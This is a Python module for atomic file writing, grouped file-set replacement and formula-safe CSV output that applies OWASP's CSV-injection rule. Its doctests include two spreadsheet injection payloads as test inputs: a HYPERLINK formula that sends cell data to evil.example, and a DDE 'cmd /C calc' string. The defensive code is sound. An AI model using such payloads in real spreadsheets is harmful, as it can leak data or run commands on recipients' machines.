"""Writing and hashing files safely: one place for every module that produces files.

A file written through :func:`atomic_path`, :func:`atomic_write_text` or
:func:`write_csv` appears only when complete (written beside its final name, then renamed), so a reader never sees
half a file and an existing file is replaced only by a whole new one.

A full disk, a read-only folder or a folder this user may not write to is raised as
:class:`~workbench.errors.OutputWriteError` naming the output path, with the old file
left as it was (:func:`output_errors` does the translation for any writer).

Several files that belong together (a panel, its coverage table and its provenance)
are replaced together by :func:`atomic_file_set`; its protocol
----------------------------------------------------------------
For a set named ``TAG`` in folder ``D`` holding files ``NAME1, NAME2, ...``::

    D/NAME1                  -> .TAG.current/NAME1     fixed relative symlinks, made once
    D/NAME2                  -> .TAG.current/NAME2
    D/.TAG.current           -> .TAG.build-<pid>-<hex>  the one link that is switched
    D/.TAG.build-<pid>-<hex>/NAME1, NAME2, ...          one complete set

1. Stale entries are swept: ``.TAG.build-*`` folders that ``.TAG.current`` does not
   point at and that no process is writing (see 2), and ``.TAG.link-*`` links whose
   process (the ``<pid>`` in the name) has ended. Nothing else in ``D`` is touched.
2. The new set is written into a fresh ``D/.TAG.build-<pid>-<hex>/`` (the caller's
   block) while holding an exclusive ``flock`` on that folder, which ends with the
   process, even by SIGKILL; an error there removes the folder and changes nothing else.
3. When ``D`` does not yet have the layout (a first build, or plain files from an
   older layout), a folder holding hard links (or copies) of whatever old files exist
   becomes ``.TAG.current``, then each ``D/NAME`` is replaced (``os.replace``) by its
   fixed symlink. Each of these steps shows the same old files (or the same absent
   ones) through the same names.
4. A new symlink ``D/.TAG.link-<pid>-<hex>`` -> the new folder is made and renamed
   over ``D/.TAG.current`` in one ``os.replace``: the only step that changes what
   ``D/NAME1, NAME2, ...`` show, and it changes all of them at once.
5. The folder ``.TAG.current`` pointed at before is removed.

A process killed at any moment therefore leaves ``D`` showing exactly the old set or
exactly the new set; what it leaves hidden is swept by the next call (step 1).

CSV cells are data, never formulas
----------------------------------
Every CSV the workbench writes goes through :func:`write_csv` (a table) or
:func:`open_csv` (rows written as they come), which pass each cell through
:func:`csv_safe`: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading single quote (OWASP's rule against CSV injection), so
a spreadsheet shows the text instead of running it as a formula. Numbers, and text
that is exactly a plain number such as ``-1.5``, are left as they are.

>>> import tempfile, pathlib
>>> p = atomic_write_text(pathlib.Path(tempfile.mkdtemp()) / "a" / "x.txt", "abc")
>>> sha256_file(p)[:12]
'ba7816bf8f01'
"""

from __future__ import annotations

import csv
import errno
import fcntl
import hashlib
import os
import re
import secrets
import shutil
import signal
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from workbench.errors import OutputWriteError

#: errno values that mean "this output cannot be written here", with what to say.
_WRITE_ERRORS = {
    errno.ENOSPC: "no space left on the device",
    errno.EDQUOT: "the disk quota is exceeded",
    errno.EFBIG: "the file is too large for this file system",
    errno.EROFS: "the file system is read-only",
    errno.EACCES: "permission denied (the folder is not writable by this user)",
    errno.EPERM: "operation not permitted (the folder is not writable by this user)",
}
#: Test hook: the name of an :func:`atomic_file_set` step at which the process kills itself.
KILL_AT_ENV = "WORKBENCH_TEST_KILL_AT"


def sha256_file(path: str | Path, chunk: int = 1 << 20) -> str:
    """Hex sha256 of a file's bytes, read in chunks."""
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(chunk), b""):
            h.update(block)
    return h.hexdigest()


def _write_problem(exc: OSError) -> str | None:
    """What to say about ``exc`` when it means the output cannot be written, else None."""
    if exc.errno in _WRITE_ERRORS:
        return _WRITE_ERRORS[exc.errno]
    text = str(exc).lower()  # pyarrow's IO errors carry the reason in the text only
    if "no space left on device" in text:
        return _WRITE_ERRORS[errno.ENOSPC]
    if "read-only file system" in text:
        return _WRITE_ERRORS[errno.EROFS]
    return None


@contextmanager
def output_errors(path: str | Path, *, within: Sequence[str | Path] = ()) -> Iterator[None]:
    """Raise a full disk or an unwritable folder met in the block as
    :class:`~workbench.errors.OutputWriteError` naming ``path``.

    An ``OSError`` that names another file (one the block was reading, say) is left as
    it is unless that file is ``path`` or lies under one of ``within``.

    >>> import errno
    >>> with output_errors("out/panel.parquet"):
    ...     raise OSError(errno.ENOSPC, "No space left on device")
    Traceback (most recent call last):
    ...
    workbench.errors.OutputWriteError: out/panel.parquet: no space left on the device ...
    """
    try:
        yield
    except OutputWriteError:
        raise
    except OSError as exc:
        problem = _write_problem(exc)
        if problem is None:
            raise
        if exc.filename is not None:
            named = Path(os.fsdecode(exc.filename)).absolute()
            target = Path(path).absolute()
            roots = [target, *(Path(p).absolute() for p in within)]
            if not (any(named == r or r in named.parents for r in roots)
                    or named in target.parents):  # making the output's folders
                raise
        raise OutputWriteError(path, f"{problem} ({errno.errorcode.get(exc.errno or 0, 'OSError')}"
                                     f": {exc.strerror or exc}); nothing was replaced") from exc


@contextmanager
def atomic_path(path: str | Path) -> Iterator[Path]:
    """A temporary path beside ``path``; renamed to ``path`` when the block succeeds.

    On any error (or Ctrl-C) the temporary file is removed and ``path`` is untouched;
    a full disk or an unwritable folder is raised as
    :class:`~workbench.errors.OutputWriteError` naming ``path``.

    >>> import tempfile, pathlib
    >>> target = pathlib.Path(tempfile.mkdtemp()) / "t.bin"
    >>> with atomic_path(target) as tmp:
    ...     _ = tmp.write_bytes(b"x")
    >>> target.read_bytes()
    b'x'
    """
    path = Path(path)
    tmp: Path | None = None
    with output_errors(path, within=[path.parent]):
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            fd, name = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".part",
                                        dir=path.parent)
            os.close(fd)
            tmp = Path(name)
            yield tmp
            os.chmod(tmp, 0o644)
            os.replace(tmp, path)
        finally:
            if tmp is not None:
                tmp.unlink(missing_ok=True)


def atomic_write_text(path: str | Path, text: str) -> Path:
    r"""Write UTF-8 ``text`` (newlines as ``\n``) to ``path`` atomically; return ``path``.

    >>> import tempfile, pathlib
    >>> atomic_write_text(pathlib.Path(tempfile.mkdtemp()) / "n.txt", "hi").read_text()
    'hi'
    """
    path = Path(path)
    with atomic_path(path) as tmp, open(tmp, "w", encoding="utf-8", newline="\n") as fh:
        fh.write(text)
    return path


# ---------------------------------------------------------------------------------------
# CSV files whose cells are data, never formulas

#: First characters that make a spreadsheet read a cell as a formula (OWASP: CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_safe(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs: text starting with ``=``, ``+``,
    ``-``, ``@``, a tab or a carriage return gets a leading ``'``; anything else (numbers,
    text that is exactly a plain number like ``-1.5``, other text) is returned unchanged.

    >>> print(csv_safe('=HYPERLINK("http://evil.example/?"&A1,"Click")'))
    '=HYPERLINK("http://evil.example/?"&A1,"Click")
    >>> csv_safe("@SUM(1+1)*cmd|' /C calc'!A0")[:5]
    "'@SUM"
    >>> csv_safe(-0.24), csv_safe("-0.24"), csv_safe("-0.24 through waits"), csv_safe("N020")
    (-0.24, '-0.24', "'-0.24 through waits", 'N020')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """A :func:`csv.writer` whose every cell passes through :func:`csv_safe`
    (what :func:`open_csv` yields).
    """

    def __init__(self, fh, **kwargs):
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, each cell made safe."""
        self._writer.writerow([csv_safe(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write rows, each cell made safe."""
        for row in rows:
            self.writerow(row)


@contextmanager
def open_csv(path: str | Path, header: Sequence[str] | None = None) -> Iterator[SafeCsvWriter]:
    r"""A :class:`SafeCsvWriter` onto ``path`` (UTF-8, ``\n`` line ends), for rows written
    as they are made; the file appears, whole, when the block succeeds (:func:`atomic_path`,
    with its :class:`~workbench.errors.OutputWriteError` for a full disk or an unwritable
    folder). ``header`` is written first when given.

    >>> import tempfile, pathlib
    >>> target = pathlib.Path(tempfile.mkdtemp()) / "t.csv"
    >>> with open_csv(target, ["name", "value"]) as w:
    ...     w.writerow(["=1+1", -2])
    >>> target.read_text()
    "name,value\n'=1+1,-2\n"
    """
    with atomic_path(path) as tmp, open(tmp, "w", encoding="utf-8", newline="") as fh:
        writer = SafeCsvWriter(fh, lineterminator="\n")
        if header is not None:
            writer.writerow(header)
        yield writer


def write_csv(table, path: str | Path, *, index: bool = False) -> Path:
    """Write the DataFrame ``table`` to ``path`` as CSV (pandas' formatting of numbers,
    dates and missing values) with every text cell made safe by :func:`csv_safe`,
    atomically (:func:`atomic_path`); return ``path``.

    >>> import pandas as pd, tempfile, pathlib
    >>> df = pd.DataFrame({"provider_name": ["@SUM(1+1)", "A"], "change": [-1.5, 2.0]})
    >>> print(write_csv(df, pathlib.Path(tempfile.mkdtemp()) / "t.csv").read_text(), end="")
    provider_name,change
    '@SUM(1+1),-1.5
    A,2.0
    """
    safe = table.copy(deep=False)
    safe.columns = [csv_safe(c) if isinstance(c, str) else c for c in safe.columns]
    for column in safe.columns:
        values = safe[column]
        kind = values.dtype.kind
        if kind == "O" or str(values.dtype) in ("category", "string") or kind == "U":
            safe[column] = values.astype(object).map(csv_safe)
    with atomic_path(path) as tmp:
        safe.to_csv(tmp, index=index, lineterminator="\n")
    return Path(path)


# ---------------------------------------------------------------------------------------
# a set of files replaced together


def _step(name: str) -> None:
    """Test hook: SIGKILL this process at step ``name`` when :data:`KILL_AT_ENV` names it."""
    if os.environ.get(KILL_AT_ENV) == name:
        os.kill(os.getpid(), signal.SIGKILL)


def pid_alive(pid: int) -> bool:
    """Whether a process ``pid`` exists (one of another user's counts as alive).

    >>> pid_alive(os.getpid())
    True
    """
    if pid <= 0:
        return False
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    return True


def _remove(path: Path) -> None:
    if path.is_symlink() or path.is_file():
        path.unlink(missing_ok=True)
    elif path.is_dir():
        shutil.rmtree(path, ignore_errors=True)


def _fresh(folder: Path, tag: str, kind: str) -> Path:
    return folder / f".{tag}.{kind}-{os.getpid()}-{secrets.token_hex(4)}"


def file_set_entries(folder: str | Path, tag: str) -> list[Path]:
    """The hidden entries :func:`atomic_file_set` keeps in ``folder`` for set ``tag``.

    >>> import tempfile
    >>> file_set_entries(tempfile.mkdtemp(), "panel")
    []
    """
    folder = Path(folder)
    rx = re.compile(rf"^\.{re.escape(tag)}\.(current|(build|link)-\d+-[0-9a-f]+)$")
    if not folder.is_dir():
        return []
    return sorted(p for p in folder.iterdir() if rx.match(p.name))


def sweep_file_set(folder: str | Path, tag: str) -> list[Path]:
    """Remove what killed :func:`atomic_file_set` calls left in ``folder``; return it.

    Only ``.TAG.build-<pid>-<hex>`` folders that ``.TAG.current`` does not point at and
    that no process is writing (the writer holds a ``flock`` on the folder, which ends
    with it, even by SIGKILL), and ``.TAG.link-<pid>-<hex>`` links whose process has
    ended, are removed.

    >>> import tempfile, pathlib
    >>> d = pathlib.Path(tempfile.mkdtemp()); (d / ".panel.build-999999999-ab").mkdir()
    >>> [p.name for p in sweep_file_set(d, "panel")]
    ['.panel.build-999999999-ab']
    """
    folder = Path(folder)
    current = folder / f".{tag}.current"
    live = os.readlink(current) if current.is_symlink() else None
    rx = re.compile(rf"^\.{re.escape(tag)}\.(build|link)-(\d+)-[0-9a-f]+$")
    removed = []
    for entry in file_set_entries(folder, tag):
        m = rx.match(entry.name)
        if not m or entry.name == live:
            continue
        if m.group(1) == "link" and pid_alive(int(m.group(2))):
            continue
        if m.group(1) == "build" and entry.is_dir() and not entry.is_symlink():
            lock = _try_lock(entry)
            if lock is None:
                continue  # being written by a running process
            try:
                _remove(entry)
            finally:
                os.close(lock)
        else:
            _remove(entry)
        removed.append(entry)
    return removed


def _try_lock(folder: Path, wait: bool = False) -> int | None:
    """An open descriptor of ``folder`` holding an exclusive ``flock``, or None when another
    process holds it (``wait=False``).
    """
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | (0 if wait else fcntl.LOCK_NB))
    except BlockingIOError:
        os.close(fd)
        return None
    except BaseException:
        os.close(fd)
        raise
    return fd


def _point(folder: Path, tag: str, target: str) -> None:
    """Make ``.TAG.current`` point at ``target`` in one ``os.replace`` of a new link."""
    link = _fresh(folder, tag, "link")
    os.symlink(target, link)
    try:
        _step("linked")
        os.replace(link, folder / f".{tag}.current")
    except BaseException:
        link.unlink(missing_ok=True)
        raise


def _adopt(folder: Path, tag: str, names: Sequence[str]) -> str | None:
    """Steps 3 of the protocol: give ``folder`` the layout, showing the old files still.

    Returns the name of the folder holding the old files, when one was made.
    """
    current = folder / f".{tag}.current"
    links = {n: os.path.join(f".{tag}.current", n) for n in names}
    in_place = all((folder / n).is_symlink() and os.readlink(folder / n) == links[n]
                   for n in names)
    if in_place and current.is_symlink():
        return None
    old = None
    if not current.is_symlink():
        old_dir = _fresh(folder, tag, "build")
        old_dir.mkdir()
        for n in names:
            src = folder / n
            if src.is_file():  # a plain file (or a link to one) of an older layout
                try:
                    os.link(src, old_dir / n, follow_symlinks=True)
                except OSError:
                    shutil.copy2(src, old_dir / n)
        _step("old-set")
        _point(folder, tag, old_dir.name)
        old = old_dir.name
    for i, n in enumerate(names, 1):
        if (folder / n).is_symlink() and os.readlink(folder / n) == links[n]:
            continue
        if (folder / n).is_dir() and not (folder / n).is_symlink():
            raise OutputWriteError(folder / n, "is a folder where the file set needs a "
                                               "file; move it away or choose another output")
        tmp = _fresh(folder, tag, "link")
        os.symlink(links[n], tmp)
        try:
            os.replace(tmp, folder / n)
        except BaseException:
            tmp.unlink(missing_ok=True)
            raise
        _step(f"layout-{i}")
    return old


@contextmanager
def atomic_file_set(folder: str | Path, names: Sequence[str], tag: str) -> Iterator[Path]:
    """A fresh private folder for the files ``names``; when the block succeeds they replace
    ``folder/NAME`` for every name together (protocol in the module docstring).

    On an error in the block the private folder is removed and ``folder`` shows its old
    files; a full disk or unwritable folder is an
    :class:`~workbench.errors.OutputWriteError` naming ``folder``.

    >>> import tempfile, pathlib
    >>> d = pathlib.Path(tempfile.mkdtemp())
    >>> with atomic_file_set(d, ["a.txt", "b.txt"], tag="demo") as tmp:
    ...     _ = (tmp / "a.txt").write_text("1"); _ = (tmp / "b.txt").write_text("2")
    >>> (d / "a.txt").read_text() + (d / "b.txt").read_text()
    '12'
    """
    folder = Path(folder)
    names = list(names)
    with output_errors(folder, within=[folder]):
        folder.mkdir(parents=True, exist_ok=True)
        sweep_file_set(folder, tag)
        build = _fresh(folder, tag, "build")
        build.mkdir()
        lock = _try_lock(build, wait=True)  # marks the folder as being written
        try:
            yield build
            missing = [n for n in names if not (build / n).is_file()]
            if missing:
                raise OutputWriteError(build, f"the block did not write {missing}")
            for n in names:
                os.chmod(build / n, 0o644)
                with open(build / n, "rb") as fh:
                    os.fsync(fh.fileno())
            _step("written")
            adopted = _adopt(folder, tag, names)
            current = folder / f".{tag}.current"
            before = os.readlink(current)
            _point(folder, tag, build.name)
            _step("switched")
        except BaseException:
            _remove(build)
            raise
        finally:
            os.close(lock)
        for name in {before, adopted} - {None, build.name}:
            _remove(folder / name)
